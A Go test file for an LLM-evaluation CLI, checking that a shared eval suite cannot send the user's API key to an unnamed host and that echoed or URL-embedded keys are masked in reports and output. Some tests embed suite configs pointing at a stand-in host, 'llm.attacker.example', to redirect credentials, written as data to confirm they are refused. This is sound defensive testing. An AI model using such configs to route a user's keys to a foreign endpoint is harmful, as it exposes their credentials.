package main

import (
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/bulletproof-cli/bulletproof/llm/llmtest"
)

// A shared suite cannot send the user's key anywhere the user did not
// name; keyless local endpoints keep working.
func TestSuiteCannotMoveKey(t *testing.T) {
	dir := isolate(t)
	t.Parallel()
	setenv(t, "OPENAI_API_KEY", testKey)
	setenv(t, "OPENAI_BASE_URL", "")
	setenv(t, "OPENAI_API_BASE_URL", "")
	setenv(t, "SECRET_TOKEN", "tok-0123456789abcdef")
	s := llmtest.New(t, "openai")
	s.Reply("Hello.")
	write := func(name, body string) string {
		p := filepath.Join(dir, name)
		os.WriteFile(p, []byte(body), 0o644)
		return p
	}
	suite := func(config string) string {
		return write("suite.yaml", "prompts: [\"Say hi to {{name}}\"]\nproviders:\n  - id: openai:chat:m\n    config: "+config+"\ntests:\n  - vars: {name: Ana}\n    assert: [{type: contains, value: Hello}]\n")
	}
	auth := func() string {
		calls := s.Calls()
		if len(calls) == 0 {
			return "(no call)"
		}
		return calls[len(calls)-1].Header.Get("Authorization")
	}

	// another host: refused before anything is sent, naming the URL
	r := cli(t, "", "eval", "run", suite("{apiBaseUrl: 'https://llm.attacker.example/v1'}"), "--no-cache")
	if r.code != 2 || !strings.Contains(r.stderr, "https://llm.attacker.example/v1") || !strings.Contains(r.stderr, "--trust-suite") {
		t.Errorf("foreign endpoint: %+v", r)
	}
	// the same with a key variable the suite picked
	r = cli(t, "", "eval", "run", suite("{apiBaseUrl: 'https://llm.attacker.example/v1', apiKeyEnvar: SECRET_TOKEN}"), "--no-cache")
	if r.code != 2 || !strings.Contains(r.stderr, "SECRET_TOKEN") {
		t.Errorf("suite's key variable: %+v", r)
	}
	// a local endpoint the suite names runs, with no key
	r = cli(t, "", "eval", "run", suite("{apiBaseUrl: '"+s.BaseURL()+"'}"), "--no-cache")
	if r.code != 0 || auth() != "" || !strings.Contains(r.stderr, "sending it no API key") {
		t.Errorf("local endpoint: %+v, Authorization %q", r, auth())
	}
	// trusted by flag
	r = cli(t, "", "eval", "run", suite("{apiBaseUrl: '"+s.BaseURL()+"'}"), "--no-cache", "--trust-suite")
	if r.code != 0 || auth() != "Bearer "+testKey {
		t.Errorf("--trust-suite: %+v, Authorization %q", r, auth())
	}
	// trusted by the user's config
	write("bulletproof.yaml", "eval:\n  trusted_endpoints: ['"+s.BaseURL()+"']\n")
	r = cli(t, "", "eval", "run", suite("{apiBaseUrl: '"+s.BaseURL()+"/'}"), "--no-cache")
	if r.code != 0 || auth() != "Bearer "+testKey {
		t.Errorf("eval.trusted_endpoints: %+v, Authorization %q", r, auth())
	}
	// an endpoint the user's own config names is theirs
	write("bulletproof.yaml", "providers:\n  mine:\n    type: openai\n    base_url: "+s.BaseURL()+"\n    api_key_env: OPENAI_API_KEY\n")
	r = cli(t, "", "eval", "run", suite("{apiBaseUrl: '"+s.BaseURL()+"'}"), "--no-cache")
	if r.code != 0 || auth() != "Bearer "+testKey {
		t.Errorf("configured endpoint: %+v, Authorization %q", r, auth())
	}
	// $OPENAI_BASE_URL is the user's too, and it is where openai: goes
	os.Remove(filepath.Join(dir, "bulletproof.yaml"))
	setenv(t, "OPENAI_BASE_URL", s.BaseURL())
	r = cli(t, "", "eval", "run", write("plain.yaml", "prompts: [\"Say hi\"]\nproviders: [openai:chat:m]\ntests:\n  - assert: [{type: contains, value: Hello}]\n"), "--no-cache")
	if r.code != 0 || auth() != "Bearer "+testKey {
		t.Errorf("OPENAI_BASE_URL: %+v, Authorization %q", r, auth())
	}
	if strings.Contains(r.stdout+r.stderr, testKey) {
		t.Error("key in output")
	}
}

// A key the model echoes is masked before the cache and the reports keep
// it; a key written into a base_url is masked wherever the URL is shown.
func TestKeysStayOut(t *testing.T) {
	dir := isolate(t)
	t.Parallel()
	s := llmtest.New(t, "openai")
	s.Reply("Your key is " + testKey + ", keep it safe.")
	withFake(t, dir, s, "")
	suite := filepath.Join(dir, "suite.yaml")
	os.WriteFile(suite, []byte("prompts: [\"Repeat my key\"]\nproviders: [fake]\ntests:\n  - assert: [{type: icontains, value: key}]\n"), 0o644)
	out := filepath.Join(dir, "r.json")
	r := cli(t, "", "eval", "run", suite, "-o", out, "-o", filepath.Join(dir, "r.csv"), "-o", filepath.Join(dir, "r.yaml"))
	if r.code != 0 {
		t.Fatalf("%+v", r)
	}
	leaks := []string{}
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && filepath.Base(p) != "bulletproof.yaml" {
			if b, _ := os.ReadFile(p); strings.Contains(string(b), testKey) {
				leaks = append(leaks, p)
			}
		}
		return nil
	})
	if len(leaks) > 0 || strings.Contains(r.stdout+r.stderr, testKey) {
		t.Errorf("the echoed key reached %v", leaks)
	}
	b, _ := os.ReadFile(out)
	if !strings.Contains(string(b), "Your key is ****") {
		t.Errorf("report:\n%s", b)
	}

	// a key in a base_url
	os.WriteFile(filepath.Join(dir, "bulletproof.yaml"), []byte("provider: leaky\nproviders:\n  leaky:\n    type: openai\n    base_url: http://bob:"+testKey+"@127.0.0.1:9/v1?api_key="+testKey+"\n    model: m\n"), 0o600)
	resume := filepath.Join(dir, "resume.md")
	os.WriteFile(resume, []byte("# Ana\n\n## Experience\n\n### Engineer, Acme\n\n- Built the billing API.\n"), 0o644)
	for _, args := range [][]string{{"config", "show"}, {"config", "show", "--format", "json"}, {"providers"}, {"rewrite", resume, "--dry-run"}} {
		r := cli(t, "", args...)
		if strings.Contains(r.stdout+r.stderr, testKey) {
			t.Errorf("%v shows the key:\n%s%s", args, r.stdout, r.stderr)
		}
		if args[0] != "rewrite" && !strings.Contains(r.stdout, "****") {
			t.Errorf("%v: no masked URL:\n%s", args, r.stdout)
		}
	}
}

func TestCompareRefusesWhatIsNotAReport(t *testing.T) {
	dir := isolate(t)
	t.Parallel()
	good := filepath.Join(dir, "good.json")
	os.WriteFile(good, []byte(`{"version": 1, "results": [{"prompt": "p", "provider": "x", "test": "t", "vars": {"a": 1}, "pass": true, "score": 1}]}`), 0o644)
	for name, body := range map[string]string{"package.json": `{"name": "app", "version": "1.0.0"}`, "list.json": `[1, 2]`, "text.json": "hello", "results.json": `{"results": 3}`} {
		p := filepath.Join(dir, name)
		os.WriteFile(p, []byte(body), 0o644)
		if r := cli(t, "", "eval", "compare", good, p); r.code != 2 || !strings.Contains(r.stderr, "report") && !strings.Contains(r.stderr, "JSON") {
			t.Errorf("%s: %+v", name, r)
		}
	}
	// promptfoo's output is a report: the same cell failing is a regression
	pf := map[string]any{"evalId": "e", "results": map[string]any{"version": 3, "results": []any{map[string]any{
		"provider": map[string]any{"id": "x"}, "prompt": map[string]any{"label": "p"}, "testCase": map[string]any{"description": "t", "vars": map[string]any{"a": 1}},
		"success": false, "score": 0, "failureReason": 1, "gradingResult": map[string]any{"componentResults": []any{map[string]any{"pass": false, "score": 0, "reason": "nope", "assertion": map[string]any{"type": "contains"}}}},
	}}}}
	b, _ := json.Marshal(pf)
	p := filepath.Join(dir, "promptfoo.json")
	os.WriteFile(p, b, 0o644)
	if r := cli(t, "", "eval", "compare", good, p); r.code != 1 || !strings.Contains(r.stdout, "regression") {
		t.Errorf("promptfoo report: %+v", r)
	}
}
